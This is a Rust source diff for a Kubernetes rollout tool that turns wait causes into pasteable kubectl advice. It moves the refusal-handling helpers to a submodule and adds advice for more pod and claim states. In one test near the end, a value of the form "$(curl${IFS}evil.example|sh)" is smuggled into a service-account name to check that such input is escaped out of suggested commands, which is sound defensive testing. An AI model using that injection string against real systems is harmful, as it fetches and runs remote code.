@@ -1,6 +1,8 @@
 //! What the user can do about a wait, with a command that can be pasted as it stands.
 
-use super::WaitCause;
+mod refusals;
+
+use super::{Refusal, WaitCause};
 use crate::hints::Failure;
 use crate::lines::in_command;
 use flotilla_api::names;
@@ -135,27 +137,6 @@ impl Whom<'_> {
         format!("correct {path}: {}", self.edit())
     }
 
-    /// What to correct where the API server refused a pod for a volume that is, or was, made of a claim template: the pod template, and the
-    /// revisions to go back to, are not to blame.
-    fn correct_claims(&self, refusal: &str) -> Option<String> {
-        let is_named = |name: &&str| refusal.contains(&format!("{name:?}"));
-        let templates = self.claim_templates.iter();
-        let mut names = templates.filter_map(|t| t.pointer("/metadata/name").and_then(Value::as_str));
-        let mut uses = ["volumeMounts[", "volumeDevices["].iter();
-        if refusal.contains("spec.volumes[") {
-            let name = names.find(is_named)?;
-            return Some(format!(
-                "rename the claim template {name:?}, or take it away: {}",
-                self.edit()
-            ));
-        }
-        let is_missing = refusal.contains("Not found: ") && uses.any(|list| refusal.contains(list));
-        is_missing.then(|| {
-            let edit = self.edit();
-            format!("add the claim template, or the volume, that a container uses, or let it use none: {edit}")
-        })
-    }
-
     /// Making what a pod misses, by the words of its kubelet.
     fn provide(&self, said: &str) -> Option<String> {
         let namespace = self.namespace();
@@ -186,22 +167,6 @@ impl Whom<'_> {
         let (_, name) = rest.split_once('/')?;
         let name = in_command(name.split_whitespace().next()?);
         Some(format!("add that key: kubectl edit {kind} {name} -n {namespace}"))
-    }
-
-    /// Making the class that a template names, or naming one that there is.
-    fn provide_class(&self, refusal: &str) -> String {
-        let (kind, name) = missing_class(refusal).unwrap_or_default();
-        let create = match kind {
-            "PriorityClass" => {
-                format!("create it, with the value that fits: kubectl create priorityclass {name} --value=0; ")
-            }
-            _ => format!("create {kind} {name}; "),
-        };
-        format!(
-            "{create}or let the template name one of those that there are (kubectl get {}): {}",
-            kind.to_ascii_lowercase(),
-            self.edit()
-        )
     }
 
     /// Going back, or what there is where one cannot.
@@ -350,6 +315,10 @@ impl WaitCause {
             WaitCause::PodTerminating { finalizers, .. } if !finalizers.is_empty() => {
                 Whom::release(finalizers, &whom.edit_pod(subject))
             }
+            WaitCause::PodTerminating { .. } => format!(
+                "it goes when its containers have ended, at the latest when its grace period is over; if it stays, see what is said of it: {}",
+                whom.describe("pod", subject)
+            ),
             WaitCause::SetTerminating { finalizers } => match finalizers.as_slice() {
                 [] => return None,
                 // By these the garbage collector waits for what the set owns.
@@ -369,7 +338,7 @@ impl WaitCause {
 
     /// What the user can do about a claim, or about what was refused or changed.
     fn advice_of_claims(&self, subject: &str, whom: &Whom<'_>) -> Option<String> {
-        if let Some(advice) = self.advice_on_policy(whom) {
+        if let Some(advice) = self.advice_on_refusal(whom) {
             return Some(advice);
         }
         Some(match self {
@@ -381,8 +350,21 @@ impl WaitCause {
                 whom.edit()
             ),
             WaitCause::FileSystemPending { restart_at: None } => {
-                "wait, or delete the pod that mounts it: its file system grows at the next mount".to_owned()
+                format!(
+                    "wait, or delete the pod that mounts it, as its file system grows at the next mount; see which that is: {}",
+                    whom.describe("pvc", subject)
+                )
             }
+            WaitCause::ClaimExpanding => {
+                format!(
+                    "wait; if it does not grow, see what its driver says: {}",
+                    whom.describe("pvc", subject)
+                )
+            }
+            WaitCause::ClaimStale { .. } => format!(
+                "wait for the garbage collector; if it stays, see whose it is: {}",
+                whom.describe("pvc", subject)
+            ),
             WaitCause::ChangedByOthers { .. } => {
                 format!(
                     "see which webhook changes it: kubectl get pod {} -n {} --show-managed-fields -o yaml",
@@ -395,30 +377,11 @@ impl WaitCause {
                 whom.edit(),
                 whom.describe("pvc", subject)
             ),
-            WaitCause::RevisionRefused { reason, message, .. } if reason == "Invalid" => {
-                let claims = whom.correct_claims(message);
-                claims.unwrap_or_else(|| format!("correct the template, or {}", whom.go_back()))
-            }
-            WaitCause::Refused { reason, message, .. } | WaitCause::RevisionRefused { reason, message, .. } => match reason.as_str() {
-                "QuotaExceeded" => format!(
-                    "raise the namespace's ResourceQuota, or free some of it: kubectl describe resourcequota -n {}",
-                    whom.namespace()
-                ),
-                "ServiceAccountMissing" => format!(
-                    "create the service account that the template names: kubectl create serviceaccount {} -n {}",
-                    missing_account(message),
-                    whom.namespace()
-                ),
-                "BadRequest" => format!("the API server cannot read the pod; correct the template: {}", whom.edit()),
-                "Invalid" => {
-                    let correct = whom.correct_claims(message);
-                    let correct = correct.unwrap_or_else(|| format!("correct the template: {}", whom.edit()));
-                    format!("the API server does not accept the pod; {correct}")
-                }
-                _ if missing_class(message).is_some() => whom.provide_class(message),
-                _ => "see the message; an admission policy or missing permission is the usual cause: kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations,validatingadmissionpolicies".to_owned(),
-            },
-            WaitCause::RevisionUnproven { reason, all_at_once: true, .. } if reason == Failure::QUOTA_EXCEEDED => format!(
+            WaitCause::RevisionUnproven {
+                reason,
+                all_at_once: true,
+                ..
+            } if reason == Failure::QUOTA_EXCEEDED => format!(
                 "raise the namespace's ResourceQuota, or free some of it, if pods are missing: kubectl describe resourcequota -n {}",
                 whom.namespace()
             ),
@@ -434,19 +397,6 @@ impl WaitCause {
             }
             other => return other.advice_in_place(subject, whom),
         })
-    }
-
-    /// What the user can do about a policy that denies pods, in the words with which the API server calls an object invalid.
-    fn advice_on_policy(&self, whom: &Whom<'_>) -> Option<String> {
-        let (otherwise, message) = match self {
-            WaitCause::Refused { message, .. } => (format!("let the template do so: {}", whom.edit()), message),
-            WaitCause::RevisionRefused { message, .. } => (whom.go_back(), message),
-            _ => return None,
-        };
-        let policy = denying_policy(message)?;
-        Some(format!(
-            "see what the policy asks for, and whoever owns it: kubectl get validatingadmissionpolicy {policy} -o yaml; or {otherwise}"
-        ))
     }
 
     fn advice_of_a_claim_that_goes(
@@ -569,40 +519,10 @@ fn in_words(markers: &[String]) -> String {
     markers.iter().map(word).collect::<Vec<_>>().join(", ")
 }
 
-/// Kind and name of the class that the API server misses, by its words: `no PriorityClass with name NAME was found`, `RuntimeClass "NAME" not
-/// found`.
-fn missing_class(message: &str) -> Option<(&'static str, &str)> {
-    if let Some((_, rest)) = message.split_once("no PriorityClass with name ") {
-        let name = rest.split_once(" was found")?.0;
-        return Some(("PriorityClass", in_command(name)));
-    }
-    let (_, rest) = message.split_once("RuntimeClass \"")?;
-    let (name, rest) = rest.split_once('"')?;
-    let is_missing = rest.trim_start().starts_with("not found");
-    is_missing.then(|| ("RuntimeClass", in_command(name)))
-}
-
-/// The policy that denies a pod, by the words of the API server: `ValidatingAdmissionPolicy 'NAME' with binding 'NAME' denied request: ...`.
-fn denying_policy(message: &str) -> Option<&str> {
-    let (_, rest) = message.split_once("ValidatingAdmissionPolicy '")?;
-    let (name, rest) = rest.split_once('\'')?;
-    rest.contains(" denied request").then(|| in_command(name))
-}
-
-/// The service account that the API server misses, by its words: `... service account ns/name was not found ...`.
-fn missing_account(message: &str) -> &str {
-    let named = message.split_once("service account ").map(|(_, rest)| rest);
-    let name = named.and_then(|rest| rest.split([' ', ',', ':']).next());
-    let name = name.and_then(|name| name.rsplit('/').next());
-    // The API server says the name as the template has it, whatever that is.
-    in_command(name.unwrap_or_default())
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::time::Timestamp;
-    use serde_json::json;
 
     /// Without its notes a pod would seem to be done, and would serve with its former image under the label of the new revision.
     #[test]
@@ -716,45 +636,6 @@ mod tests {
     }
 
     #[test]
-    fn r_31_what_is_to_be_corrected_is_what_the_refused_field_was_made_of() {
-        let templates = [
-            json!({"metadata": {"name": "data"}}),
-            json!({"metadata": {"name": "logs.v1"}}),
-        ];
-        let whom = Whom {
-            claim_templates: &templates,
-            ..Whom::of("statefulset.apps.kruise.io/web", "shop")
-        };
-        for (field, expected) in [
-            (
-                "spec.volumes[1].name: Invalid value: \"logs.v1\": must not contain dots",
-                "rename the claim template \"logs.v1\"",
-            ),
-            (
-                "spec.volumes[0].name: Invalid value: \"a.b\": must not contain dots",
-                "correct the template, or roll back",
-            ),
-            (
-                "spec.containers[0].volumeMounts[0].name: Not found: \"spool\"",
-                "add the claim template",
-            ),
-            (
-                "spec.containers[0].volumeDevices[0].name: Not found: \"spool\"",
-                "add the claim template",
-            ),
-            (
-                "spec.containers[0].image: Required value",
-                "correct the template, or roll back",
-            ),
-        ] {
-            let message = format!("Pod \"web-2\" is invalid: {field}");
-            let cause = WaitCause::of_refused_trial("Invalid".to_owned(), message, Timestamp::from_millis(0));
-            let advice = cause.advice("web-abc", &whom).expect("advice");
-            assert!(advice.starts_with(expected), "{field}: {advice}");
-        }
-    }
-
-    #[test]
     fn what_a_pod_lacks_is_named_with_the_command_that_makes_it() {
         let whom = Whom::of("statefulset.apps/web", "shop");
         let cannot = |reason: &str, message: &str| WaitCause::ContainerCannotStart {
@@ -830,34 +711,6 @@ mod tests {
         }
     }
 
-    /// It says so with the reason Invalid, and the template may be as valid as any.
-    #[test]
-    fn a_policy_that_denies_pods_is_named() {
-        const DENIED: &str =
-            "ValidatingAdmissionPolicy 'two-owners' with binding 'everywhere' denied request: name an owner";
-        let whom = Whom::of("statefulset.apps/web", "shop");
-        let message = format!("pods \"web-2\" is forbidden: {DENIED}");
-        let retry_at = Timestamp::from_millis(0);
-        let refused = WaitCause::Refused {
-            reason: "Invalid".into(),
-            message: message.clone(),
-            retry_at,
-        };
-        let revision = WaitCause::RevisionRefused {
-            reason: "Invalid".into(),
-            message,
-            retry_at,
-        };
-        for (cause, ending) in [
-            (refused, "kubectl edit statefulset.apps/web -n shop"),
-            (revision, "flotilla rollout undo statefulset.apps/web -n shop"),
-        ] {
-            let advice = cause.advice("web-2", &whom).expect("advice");
-            let policy = ": kubectl get validatingadmissionpolicy two-owners -o yaml; or ";
-            assert!(advice.contains(policy) && advice.ends_with(ending), "{advice}");
-        }
-    }
-
     #[test]
     fn what_does_not_go_is_told_with_who_holds_it() {
         let held = |finalizers: &[&str]| WaitCause::SetTerminating {
@@ -901,15 +754,11 @@ mod tests {
     }
 
     #[test]
-    fn the_account_that_is_missing_is_named() {
-        let said = "pods \"web-0\" is forbidden: error looking up service account shop/robot: serviceaccount \"robot\" not found";
-        assert_eq!(missing_account(said), "robot");
-    }
-
-    #[test]
     fn what_others_wrote_gets_into_no_command() {
         const EVIL: &str = "$(curl${IFS}evil.example|sh)";
-        let said = format!("error looking up service account shop/{EVIL}: serviceaccount \"{EVIL}\" not found");
+        let said = format!(
+            "pods \"web-0\" is forbidden: error looking up service account shop/{EVIL}: serviceaccount \"{EVIL}\" not found"
+        );
         for (cause, subject, command) in [
             (
                 WaitCause::of_refused_trial("ServiceAccountMissing".to_owned(), said, Timestamp::from_millis(0)),
